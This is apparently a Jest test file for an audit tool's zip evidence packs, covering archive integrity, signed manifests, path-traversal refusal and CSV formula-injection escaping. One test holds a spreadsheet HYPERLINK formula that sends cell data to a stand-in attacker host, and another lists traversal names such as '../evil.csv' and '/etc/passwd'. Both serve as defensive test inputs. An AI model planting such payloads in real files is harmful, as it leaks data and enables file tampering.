// The evidence pack as a zip, checked with the system's own unzip (Info-ZIP), not with our reader.
import { execFile } from 'node:child_process';
import { createHash, createPublicKey, generateKeyPairSync, verify } from 'node:crypto';
import { mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { buildEvidencePack, canonicalJson, evidencePackZip, toCsv, zipFiles } from '../../audit';

const run = promisify(execFile);

describe('evidence packs as zip files', () => {
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(path.join(tmpdir(), 'gatehouse-zip-'));
  });
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  test('unzip tests and extracts every file byte for byte (UTF-8, empty, large, many)', async () => {
    const files: Record<string, string> = {
      'pack/readme.txt': 'Zoë’s pack — ✓\r\n',
      'pack/empty.csv': '',
      'pack/big.csv': 'request_id,state\r\n'.repeat(20_000),
      ...Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`pack/n/${i}.json`, JSON.stringify({ i })])),
    };
    const zip = zipFiles(files, new Date('2026-03-04T05:06:08Z'));
    expect(zip.length).toBeLessThan(files['pack/big.csv']!.length / 10); // deflated
    const file = path.join(dir, 'a.zip');
    await writeFile(file, zip);
    const tested = await run('unzip', ['-t', file]);
    expect(tested.stdout).toMatch(/No errors detected/);
    const info = await run('zipinfo', ['-l', file]);
    expect(info.stdout).toMatch(/43 files/);
    expect(info.stdout).toMatch(/-r--r--r--.* def[NX] 26-Mar-04 05:06 pack\/readme\.txt/);
    const out = path.join(dir, 'a');
    await run('unzip', ['-q', file, '-d', out]);
    for (const [name, text] of Object.entries(files)) expect(await readFile(path.join(out, name), 'utf8')).toBe(text);
  });

  test('a signed pack round-trips: the manifest digests and signature hold for the unzipped files', async () => {
    const { privateKey, publicKey } = generateKeyPairSync('ed25519');
    const pack = buildEvidencePack({
      from: new Date('2026-01-01T00:00:00Z'), to: new Date('2026-01-02T00:00:00Z'), items: [], signingKey: privateKey,
      unreadable: [{ requestId: 'req_aaaaaaaaaaaaaaaaaaaa', workflowStatus: 'RUNNING', startTime: new Date('2026-01-01T10:00:00Z'), taskQueue: 'q', requester: 'carol@example.org', target: 'clinical', state: 'ACTIVE', searchAttributes: { GatehouseRequester: 'carol@example.org' }, problem: 'no worker polls its task queue "q"' }],
    });
    const file = path.join(dir, 'pack.zip');
    await writeFile(file, evidencePackZip(pack, 'gatehouse-evidence-2026-01-01'));
    const out = path.join(dir, 'pack');
    await run('unzip', ['-q', file, '-d', out]);
    const folder = path.join(out, 'gatehouse-evidence-2026-01-01');
    expect((await readdir(folder)).sort()).toEqual(Object.keys(pack.files).sort());
    const signed = JSON.parse(await readFile(path.join(folder, 'manifest.json'), 'utf8'));
    for (const [name, digest] of Object.entries(signed.manifest.files as Record<string, string>)) {
      expect(createHash('sha256').update(await readFile(path.join(folder, name))).digest('hex')).toBe(digest);
    }
    expect(verify(null, Buffer.from(canonicalJson(signed.manifest)), createPublicKey(publicKey.export({ type: 'spki', format: 'pem' })), Buffer.from(signed.signature, 'base64'))).toBe(true);
    expect(signed.manifest).toMatchObject({ requests: 1, unreadable: 1 });
    expect(await readFile(path.join(folder, 'unreadable.csv'), 'utf8')).toContain('req_aaaaaaaaaaaaaaaaaaaa,2026-01-01T10:00:00.000Z,RUNNING,q,carol@example.org,clinical,ACTIVE,');
  });

  test('an entry name that could leave the folder is refused', () => {
    for (const name of ['../evil.csv', '/etc/passwd', 'a/../../b', 'a\\b', '', 'a//b', 'C:x']) expect(() => zipFiles({ [name]: 'x' })).toThrow(/plain relative path/);
  });

  test('request data a hostile agent wrote cannot run as a formula when an auditor opens a CSV of the pack in a spreadsheet', () => {
    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"open")';
    const pack = buildEvidencePack({
      from: new Date('2026-01-01T00:00:00Z'), to: new Date('2026-01-02T00:00:00Z'), items: [],
      unreadable: [{ requestId: 'req_bbbbbbbbbbbbbbbbbbbb', workflowStatus: 'RUNNING', startTime: new Date('2026-01-01T10:00:00Z'), taskQueue: '+q', requester: formula, target: '@SUM(1)', state: '-1+2', approver: '\t=1', searchAttributes: {}, problem: '\r=1' }],
    });
    const cells = (csv: string) => csv.trim().split('\r\n').slice(1).join(',');
    for (const name of ['requests.csv', 'unreadable.csv', 'archives.csv']) {
      // Every cell starts after a comma or a line start; none of them may start with = + - @ or a tab/CR (each is quoted with a leading ').
      const text = cells(pack.files[name]!);
      expect({ name, formula: /(^|,)"?[=+\-@\t\r]/.test(text) }).toEqual({ name, formula: false });
    }
    expect(pack.files['unreadable.csv']).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")"`);
    expect(toCsv(['a', 'b'], [['=1+1', ' =1'], ['plain', -3]])).toBe("a,b\r\n'=1+1, =1\r\nplain,'-3\r\n");
  });
});
